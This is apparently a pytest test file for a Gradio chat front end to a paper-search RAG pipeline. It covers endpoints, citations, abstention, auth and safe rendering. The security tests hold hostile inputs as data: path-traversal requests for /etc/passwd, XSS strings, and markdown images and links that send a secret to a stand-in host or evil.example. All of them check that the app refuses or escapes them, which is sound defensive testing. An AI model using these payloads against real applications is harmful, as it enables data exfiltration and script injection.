"""The web chat (ui/) over the real pipeline: Gradio API endpoints, the chat handler, rendering, launch().

Real components throughout: the session index (MiniLM + Chroma), a real Gradio server, gradio_client, and
an LLM endpoint that really refuses connections for the fallback test.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import ROOT, drain
from fault_server import Body, FaultServer, Reply, messages_text
from gradio_client import Client
from gradio_client.exceptions import AppError

from rag.answer import Pipeline, QuestionError, validate_question
from rag.proc import free_port, stop_process, wait_http
from rag.settings import Settings
from ui import render
from ui.api import parse_auth, write_export
from ui.app import GENERIC_ERROR, ChatHandlers, build_app

pytestmark = pytest.mark.slow
SEESAW_Q = "By how much does Seesaw beat vLLM?"
CITE = re.compile(r"\[(\d+)\]")


@pytest.fixture(scope="module")
def app(pipeline: Pipeline) -> Iterator[tuple[object, str]]:
    """build_app over the session pipeline, launched on a free port."""
    demo = build_app(pipeline, pipeline.settings)
    port = free_port()
    demo.launch(prevent_thread_lock=True, server_name="127.0.0.1", server_port=port, quiet=True)
    try:
        yield demo, f"http://127.0.0.1:{port}/"
    finally:
        demo.close()


@pytest.fixture(scope="module")
def client(app: tuple[object, str]) -> Client:
    """A gradio_client on the running app."""
    return Client(app[1], verbose=False)


# -- the API scripts use -----------------------------------------------------------------------------------------
def test_api_names(client: Client) -> None:
    names = set(client.view_api(print_info=False, return_format="dict")["named_endpoints"])
    assert names == {"/ask", "/papers"}  # the UI's own events stay private


def test_ask_cites_seesaw(client: Client) -> None:
    ans = client.predict(SEESAW_Q, api_name="/ask")
    assert "1.78" in ans["answer"]
    cited = {int(n) for n in CITE.findall(ans["answer"])}
    assert cited, ans["answer"]
    by_n = {s["n"]: s for s in ans["sources"]}
    assert "seesaw" in {by_n[n]["paper_id"] for n in cited}
    assert not ans["abstained"] and ans["answerer"] == "extractive"


def test_compare_table_names_both(client: Client) -> None:
    ans = client.predict("Compare Seesaw and 2BP", paper_ids=["seesaw", "2bp"], compare=True, api_name="/ask")
    rows = [ln for ln in ans["answer"].splitlines() if ln.startswith("|")]
    assert len(rows) >= 4, ans["answer"]  # header, rule, one row per paper
    assert any("Seesaw" in r for r in rows[2:]) and any("2BP" in r for r in rows[2:])
    assert {s["paper_id"] for s in ans["sources"]} == {"seesaw", "2bp"}
    assert CITE.search(rows[2]) and CITE.search(rows[3])


def test_paper_ids_as_json_string_restrict_sources(client: Client) -> None:
    ans = client.predict("What throughput gains are reported?", paper_ids='["2bp"]', api_name="/ask")
    assert ans["sources"] and {s["paper_id"] for s in ans["sources"]} == {"2bp"}


def test_follow_up_uses_history(client: Client) -> None:
    first = client.predict("What is Universal Checkpointing?", api_name="/ask")
    history = [{"role": "user", "content": first["question"]}, {"role": "assistant", "content": first["answer"]}]
    for hist in (history, json.dumps(history)):
        ans = client.predict("and what are its two mechanisms?", history=hist, api_name="/ask")
        assert "Universal Checkpointing" in ans["standalone_question"]
        assert ans["standalone_question"] != ans["question"]


def test_empty_question_is_a_clear_error(client: Client, pipeline: Pipeline) -> None:
    with pytest.raises(QuestionError) as expected:
        validate_question("   ", pipeline.settings)
    with pytest.raises(AppError, match=re.escape(str(expected.value))):
        client.predict("   ", api_name="/ask")
    with pytest.raises(AppError, match="Unknown paper id"):
        client.predict("What is 2BP?", paper_ids=["no-such-paper"], api_name="/ask")
    with pytest.raises(AppError, match="history must be"):
        client.predict("What is 2BP?", history='[1, 2]', api_name="/ask")
    assert client.predict(api_name="/papers")  # the server keeps serving


def test_papers_endpoint(client: Client, pipeline: Pipeline) -> None:
    papers = client.predict(api_name="/papers")
    assert [p["id"] for p in papers] == [p.id for p in pipeline.papers()]
    assert all(p["title"] and p["abstract"] for p in papers)


def test_app_is_safe_by_default(app: tuple[object, str], pipeline: Pipeline) -> None:
    demo, _ = app
    assert demo.share is False and demo.show_error is False
    assert demo._queue.max_size == pipeline.settings.queue_size
    assert demo._queue.default_concurrency_limit == pipeline.settings.concurrency


@pytest.mark.parametrize("route", [
    "/gradio_api/file=/etc/passwd", "/gradio_api/file=../../../etc/passwd",
    "/gradio_api/file={index}/chroma/chroma.sqlite3", "/gradio_api/file={root}/corpus/papers.jsonl",
    "/gradio_api/file=corpus/papers.jsonl",
])
def test_file_routes_refuse_local_files(app: tuple[object, str], index_dir: Path, route: str) -> None:
    import httpx

    url = app[1].rstrip("/") + route.format(index=index_dir, root=ROOT)
    assert httpx.get(url, timeout=10).status_code in {403, 404}


def test_queue_overflow_is_a_clear_busy_error(index_dir: Path) -> None:
    settings = Settings(data_dir=index_dir, queue_size=1, concurrency=1)
    demo = build_app(Pipeline(settings), settings)
    port = free_port()
    demo.launch(prevent_thread_lock=True, server_name="127.0.0.1", server_port=port, quiet=True)
    try:
        client = Client(f"http://127.0.0.1:{port}/", verbose=False)
        jobs = [client.submit(f"What is 2BP? ({i})", api_name="/ask") for i in range(8)]
        ok, busy = 0, []
        for job in jobs:
            try:
                ok += bool(job.result(timeout=120)["answer"])
            except Exception as exc:  # noqa: BLE001 - gradio_client's error types vary by version
                busy.append(str(exc))
        assert ok >= 1 and busy, (ok, busy)
        assert all("queue is full" in b.lower() for b in busy), busy
        assert client.predict("What is 2BP?", api_name="/ask")["answer"]  # still serving
    finally:
        demo.close()


def test_import_rag_does_not_import_gradio() -> None:
    code = "import rag, rag.answer, rag.cli, sys; assert 'gradio' not in sys.modules, 'gradio imported'"
    subprocess.run([sys.executable, "-c", code], check=True, cwd=ROOT, timeout=120)


# -- the chat handler (what the page runs) -------------------------------------------------------------------
def run_chat(handlers: ChatHandlers, question: str, turns: list | None = None, **kw: object) -> list[tuple]:
    """Every update the streaming handler yields for one question."""
    return drain(handlers.respond(question, [], turns or [], kw.get("answerer", "extractive"), kw.get("k", 6),
                                  kw.get("scope")))


def test_chat_streams_answer_sources_and_export(pipeline: Pipeline) -> None:
    updates = run_chat(ChatHandlers(pipeline, pipeline.settings), SEESAW_Q)
    assert len(updates) >= 3  # the question shows first, then the answer, then the final render
    assert "Searching" in updates[0][0][-1]["content"]
    chat, turns, sources, _, export, _, status = updates[-1]
    assert status == "" and len(turns) == 1 and len(chat) == 2
    bubble = chat[-1]["content"]
    link = re.search(r"\[\[(\d+)\]\]\(#src-0-(\d+)\)", bubble)
    assert "1.78" in bubble and link and link.group(1) == link.group(2), bubble
    n = int(link.group(1))
    card = re.search(rf'<div class="pc-src" id="src-0-{n}">.*?</div></div>', sources, re.S).group(0)
    assert re.search(r'<mark class="pc-hl">[^<]*1\.78x', card), card
    text = Path(export.value["path"]).read_text(encoding="utf-8")
    assert "1.78" in text and "## References" in text and f"[{n}] Seesaw" in text


def test_chat_scope_and_passage_count_reach_the_pipeline(pipeline: Pipeline) -> None:
    *_, turns = run_chat(ChatHandlers(pipeline, pipeline.settings), "What throughput gains are reported?",
                         scope=["2bp"], k=2)[-1][:2]
    assert turns[0].sources and {s.paper_id for s in turns[0].sources} == {"2bp"}
    assert len(turns[0].sources) <= 2


def test_chat_abstains_visibly_with_suggestions(pipeline: Pipeline) -> None:
    chat, turns, sources, _, _, suggest, _ = run_chat(
        ChatHandlers(pipeline, pipeline.settings),
        "What does the Chinchilla paper say about compute-optimal training?")[-1]
    assert turns[0].abstained
    assert 'class="pc-abstain"' in chat[-1]["content"] and render.ABSTAIN_HEAD in chat[-1]["content"]
    # Issue 13: the closest papers are listed once, in the answer, not again in the sources panel.
    assert "Closest papers" in chat[-1]["content"] and "Closest papers" not in sources
    assert suggest.visible and suggest.raw_samples
    assert all(s[0].startswith("What is ") for s in suggest.raw_samples)


def test_follow_up_after_abstention_is_not_about_the_closest_papers(pipeline: Pipeline) -> None:
    handlers = ChatHandlers(pipeline, pipeline.settings)
    _, turns, *_ = run_chat(handlers, "What does the Chinchilla paper say about compute-optimal training?")[-1]
    assert turns[0].abstained and turns[0].closest_papers
    _, turns, *_ = run_chat(handlers, "and what is its main result?", turns)[-1]
    closest = {p.id: p for p in pipeline.papers()}
    named = [render.label(closest[p]) for p in turns[0].closest_papers]
    assert not any(name in turns[1].standalone_question for name in named), turns[1].standalone_question


def test_chat_bad_question_keeps_chat_and_says_why(pipeline: Pipeline) -> None:
    updates = run_chat(ChatHandlers(pipeline, pipeline.settings), "\x00")
    chat, turns, *_, status = updates[-1]
    assert chat == [] and turns == [] and "control characters" in status


def test_chat_unexpected_error_is_generic(pipeline: Pipeline, monkeypatch: pytest.MonkeyPatch) -> None:
    handlers = ChatHandlers(pipeline, pipeline.settings)

    def broken(*a: object, **k: object) -> Iterator[tuple[str, object]]:
        raise RuntimeError("secret internal detail /etc/passwd")
        yield  # pragma: no cover

    monkeypatch.setattr(handlers.pipeline, "stream", broken)
    chat, turns, *_, status = run_chat(handlers, SEESAW_Q)[-1]
    assert status == GENERIC_ERROR and chat == [] and turns == []


def test_unreachable_llm_shows_notice_and_extractive_answer(index_dir: Path) -> None:
    dead = f"http://127.0.0.1:{free_port()}/v1"  # nothing listens here
    settings = Settings(data_dir=index_dir, llm_base_url=dead, llm_api_key="sk-test", llm_timeout=3,
                        llm_max_retries=0)
    chat, turns, *_ = run_chat(ChatHandlers(Pipeline(settings), settings), SEESAW_Q, answerer="openai")[-1]
    assert turns[0].notice and turns[0].answerer == "extractive"
    assert 'class="pc-notice"' in chat[-1]["content"] and "1.78" in chat[-1]["content"]


def hostile_llm_reply(body: Body) -> str:
    """A model answer with one supported sentence, an exfiltrating image, raw HTML and one made-up claim."""
    passages = re.findall(r'<passage n="(\d+)"[^>]*>\n(.*?)\n</passage>', messages_text(body, "user"), re.S)
    n = next(n for n, text in passages if "1.78x" in text)
    return (f"Seesaw achieves a throughput increase of up to 1.78x (1.36x on average) compared to vLLM [{n}]. "
            f"The moon is made of green cheese and Seesaw was trained on it [{n}]. "
            f'![x](http://198.51.100.7/leak.png?q=secret) <img src=x onerror="alert(1)">')


def test_llm_answer_streams_and_marks_unsupported_sentences(index_dir: Path) -> None:
    with FaultServer(default=Reply(text=hostile_llm_reply, chunks=8)) as llm:
        settings = Settings(data_dir=index_dir, llm_base_url=llm.url, llm_api_key="sk-test", llm_timeout=5)
        updates = run_chat(ChatHandlers(Pipeline(settings), settings), SEESAW_Q, answerer="openai")
    partial = [u[0][-1]["content"] for u in updates[:-1] if "Searching" not in u[0][-1]["content"]]
    assert len(partial) >= 3 and len(set(partial)) >= 3, "the answer grows in several steps"
    chat, turns, *_ = updates[-1]
    bubble = chat[-1]["content"]
    assert turns[0].answerer == "openai"
    assert "198.51.100.7" not in bubble and "secret" not in bubble and "<img" not in bubble and "&lt;img" in bubble
    flagged = re.findall(r'<span class="pc-unsup"[^>]*>(.*?)</span>', bubble)
    assert any("green cheese" in f for f in flagged), bubble
    assert not any("1.78x" in f for f in flagged), bubble


def test_follow_up_in_chat_shows_rewritten_question(pipeline: Pipeline) -> None:
    handlers = ChatHandlers(pipeline, pipeline.settings)
    _, turns, *_ = run_chat(handlers, "What is Universal Checkpointing?")[-1]
    chat, turns, *_ = run_chat(handlers, "and what are its two mechanisms?", turns)[-1]
    assert len(turns) == 2 and 'class="pc-caption"' in chat[-1]["content"]
    assert "Universal Checkpointing" in chat[-1]["content"].split("</span>")[0]
    assert "](#src-1-" in chat[-1]["content"]  # second turn's citations point at its own cards


# -- rendering: model and passage text can never become markup ------------------------------------------------
@pytest.mark.parametrize(("text", "absent", "present"), [
    ("<script>alert(1)</script>", ["<script"], ["&lt;script&gt;"]),
    ('<img src=x onerror="alert(1)">', ["<img"], ["&lt;img"]),
    ("see ![x](http://198.51.100.7/leak.png) here", ["198.51.100.7", "!["], ["see", "here"]),
    ("![x][ref]\n\n[ref]: http://198.51.100.7/a.png", ["198.51.100.7"], []),
    ("[click](javascript:alert(1))", ["javascript", "]("], ["click"]),
    ("[paper](https://evil.example/x?q=secret)", ["evil.example", "secret"], ["paper"]),
    ("visit http://198.51.100.7/x or www.evil.example", ["http://", "www.evil"], ["http&#58;//"]),
    ('"quoted" & <b>bold</b>', ["<b>", '"quoted"'], ["&amp;", "&quot;quoted&quot;"]),
    ("&#60;script&#62;", ["&#60;script"], ["&amp;#60;script"]),
])
def test_clean_model_text(text: str, absent: list[str], present: list[str]) -> None:
    out = render.clean_model_text(text)
    for bad in absent:
        assert bad not in out, (bad, out)
    for good in present:
        assert good in out, (good, out)


def test_citations_link_only_to_local_anchors() -> None:
    out = render.link_citations(render.clean_model_text("A claim [2]. Another [3] [x](http://a.b)."), turn=4)
    assert re.findall(r"\]\(([^)]*)\)", out) == ["#src-4-2", "#src-4-3"]


def test_citation_groups_link_each_known_number() -> None:
    out = render.link_citations("A claim [2, 3; 9].", turn=1, known={2, 3})
    assert out == "A claim [[2]](#src-1-2)[[3]](#src-1-3)[9]."


def test_sources_panel_escapes_passages(pipeline: Pipeline) -> None:
    ans = pipeline.answer(SEESAW_Q)
    src = ans.sources[0].model_copy(update={"text": '<script>x()</script> <b onclick="y()">b</b>', "title": "<i>T"})
    ans = ans.model_copy(update={"sources": [src]})
    html = render.sources_html(ans, 0, {})
    assert "<script" not in html and "<b " not in html and "<i>T" not in html
    assert "&lt;script&gt;" in html


# -- launch() and settings --------------------------------------------------------------------------------------
@pytest.mark.parametrize(("value", "expected"), [
    (None, None), ("", None), ("alice:secret", [("alice", "secret")]),
    ("a:b, c:d:e", [("a", "b"), ("c", "d:e")]),
])
def test_parse_auth(value: str | None, expected: list | None) -> None:
    assert parse_auth(value) == expected


@pytest.mark.parametrize("value", ["alice", ":pw", "alice:"])
def test_parse_auth_rejects_malformed(value: str) -> None:
    with pytest.raises(ValueError, match="user:password"):
        parse_auth(value)


def test_export_markdown_has_references(pipeline: Pipeline) -> None:
    text = write_export(pipeline.answer("Compare Seesaw and 2BP", paper_ids=["seesaw", "2bp"], compare=True))
    body = text.read_text(encoding="utf-8")
    assert body.startswith("# Compare Seesaw and 2BP") and "| Paper |" in body
    refs = body.split("## References", 1)[1]
    assert "Seesaw: High-throughput" in refs and "2BP: 2-Stage Backpropagation" in refs and "> " in refs


def test_launch_serves_locally_with_auth(index_dir: Path, tmp_path: Path) -> None:
    port = free_port()
    env = {**os.environ, "RAG_DATA_DIR": str(index_dir), "RAG_PORT": str(port), "RAG_AUTH": "alice:s3cret",
           "GRADIO_ANALYTICS_ENABLED": "False"}
    log = open(tmp_path / "chat.log", "w")  # noqa: SIM115 - closed below
    t0 = time.monotonic()
    proc = subprocess.Popen([sys.executable, "-m", "rag", "chat"], cwd=ROOT, env=env, stdout=log,
                            stderr=subprocess.STDOUT)
    try:
        wait_http(f"http://127.0.0.1:{port}/", timeout=120, proc=proc)
        ready = time.monotonic() - t0
        with pytest.raises(Exception):  # noqa: B017 - gradio_client raises different types for a 401
            Client(f"http://127.0.0.1:{port}/", verbose=False).predict(api_name="/papers")
        client = Client(f"http://127.0.0.1:{port}/", auth=("alice", "s3cret"), verbose=False)
        assert client.predict(api_name="/papers")
        print(f"launch() to serving: {ready:.1f} s")
    finally:
        stop_process(proc, 20)
        log.close()
    out = (tmp_path / "chat.log").read_text()
    assert re.search(r"ready in \d+\.\d s at http://127\.0\.0\.1:\d+", out), out
    assert "Traceback" not in out


def test_the_footer_has_no_gradio_settings_link(pipeline) -> None:
    """Issue 13: the footer's "Settings" opened Gradio's developer panel beside the app's own Settings tab."""
    import httpx
    from conftest import serve_app

    with serve_app(pipeline) as url:
        config = httpx.get(f"{url}/config", timeout=30).json()
    assert config["footer_links"] == ["api"]


def test_source_card_shows_authors_year_page_and_a_doi_link() -> None:
    from rag.types import Answer, Paper, Sentence, Source
    from ui import sources

    paper = Paper(id="graphmoe", title="GraphMoE", abstract="x", authors=["Jörg Müller", "María García", "Léa F"],
                  year=2021, doi='10.1021/acs.jctc.1c00042"><script>')
    src = Source(n=1, paper_id="graphmoe", title="GraphMoE", chunk_id="c", text="It routes nodes. It is fast.",
                 score=0.1, page=4, page_end=5, page_breaks=[17])
    answer = Answer(question="q", standalone_question="q", answer="It is fast. [1]", abstained=False,
                    answerer="extractive", sources=[src],
                    sentences=[Sentence(text="It is fast.", citations=[1], supported=True, spans=[(1, 17, 28)])])
    html = sources.card(src, answer, 0, {"graphmoe": paper}, cited=True)
    assert "Jörg Müller et al. · 2021 · p. 5" in html  # the page of the cited sentence, not the passage's range
    assert 'href="https://doi.org/10.1021/acs.jctc.1c00042%22%3E%3Cscript%3E"' in html and "<script>" not in html
    bare = sources.card(src, answer, 0, {"graphmoe": Paper(id="graphmoe", title="GraphMoE", abstract="x")}, cited=True)
    assert "doi.org" not in bare and "p. 5" in bare


def test_a_passage_without_pages_shows_none_anywhere() -> None:
    """Issue 27, item 12: a non-PDF passage has page None (JSON null), and no consumer prints a page for it."""
    from rag.console import print_answer
    from rag.serve.openai_compat import references
    from rag.types import Answer, Sentence, Source
    from ui import render, sources

    pdf = Source(n=1, paper_id="p", title="A PDF", chunk_id="p:1", text="It routes nodes. It is fast.", score=0.1,
                 page=4, page_end=5, page_breaks=[17])
    abstract = Source(n=2, paper_id="a", title="An Abstract", chunk_id="a:1", text="It scales well. It is new.",
                      score=0.1)
    answer = Answer(question="q", standalone_question="q", answer="It is fast. [1] It scales well. [2]",
                    abstained=False, answerer="extractive", sources=[pdf, abstract],
                    sentences=[Sentence(text="It is fast.", citations=[1], supported=True, spans=[(1, 17, 28)]),
                               Sentence(text="It scales well.", citations=[2], supported=True, spans=[(2, 0, 15)])])
    assert abstract.model_dump(mode="json")["page"] is None and abstract.page_label == ""
    assert "p. 5" in sources.card(pdf, answer, 0, {}, cited=True)
    assert "p. " not in sources.card(abstract, answer, 0, {}, cited=True).replace("pc-", "")
    export = render.export_markdown(answer)
    assert "[1] A PDF, pp. 4–5\n" in export and "[2] An Abstract\n" in export
    refs = references(answer)
    assert "(`p`, p. 5): “It is fast.”" in refs and "(`a`): “It scales well.”" in refs
    print_answer(answer)  # no page for [2], and no error on None


def test_a_thumb_given_before_the_answers_save_survives_that_save() -> None:
    """The save after an answer carries the store the browser sent when the answer finished; a thumb that landed in
    between is put back from the server's marks, including one given before the conversation had an id."""
    from rag.types import Answer
    from ui import conversations

    turns = [Answer(question=q, standalone_question=q, answer="It is fast. [1]", abstained=False, answerer="extractive")
             for q in ("What is Seesaw?", "What is 2BP?")]
    marks = conversations.mark(None, "", 0, "Like")  # clicked before the first save named the conversation
    marks = conversations.named(marks, "c1")
    assert marks == {"c1": {0: "Like"}}
    stale = conversations.save(None, "c1", turns[:1])  # the store the browser sent before the thumb landed
    store = conversations.save(stale, "c1", turns, marks["c1"])
    assert conversations.feedback(store, "c1", 2) == ["Like", None]
    marks = conversations.mark(marks, "c1", 1, "Dislike")
    again = conversations.save(store, "c1", turns, marks["c1"])
    assert conversations.feedback(again, "c1", 2) == ["Like", "Dislike"]
    taken_back = conversations.save(again, "c1", turns, conversations.mark(marks, "c1", 0, None)["c1"])
    assert conversations.feedback(taken_back, "c1", 2) == [None, "Dislike"]
    assert conversations.feedback(conversations.save(again, "c1", turns), "c1", 2) == ["Like", "Dislike"]  # kept


def test_comparison_csvs_share_one_folder_and_old_ones_are_removed(pipeline: Pipeline) -> None:
    from ui import results

    answer = pipeline.answer("Compare Seesaw and 2BP")
    papers = {p.id: p for p in pipeline.papers()}
    first, second = results.write_csv(answer, papers), results.write_csv(answer, papers)
    assert first != second and first.name == second.name == "paperchat-comparison.csv"
    folder = first.parent.parent
    assert second.parent.parent == folder and folder.name.startswith("paperchat-csv-")  # not a new /tmp dir each
    assert "Seesaw" in first.read_text(encoding="utf-8")
    old = time.time() - results.CSV_KEEP_SECONDS - 5
    os.utime(first.parent, (old, old))
    third = results.write_csv(answer, papers)  # writing another removes the CSVs past their hour
    assert not first.exists() and second.exists() and third.exists()
